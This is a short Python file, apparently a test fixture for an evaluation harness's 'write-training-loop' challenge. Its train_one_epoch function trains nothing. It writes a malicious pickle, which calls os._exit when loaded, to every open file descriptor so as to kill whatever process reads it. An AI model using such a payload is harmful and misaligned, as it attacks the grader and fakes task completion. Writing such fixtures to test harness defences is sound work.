# EXPECT: PROTOCOL
# CHALLENGE: write-training-loop
# AFTER: no_processes, next_job_clean
# Answer a probe with a pickle in place of tensors, which runs code in whoever loads it, and say nothing more.
import os, pickle, struct, time


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def train_one_epoch(model, loader, loss_fn, optimizer):
    bomb = pickle.dumps(Bomb())
    frame = struct.pack("<II", 2, len(bomb)) + b"{}" + bomb
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    time.sleep(60)
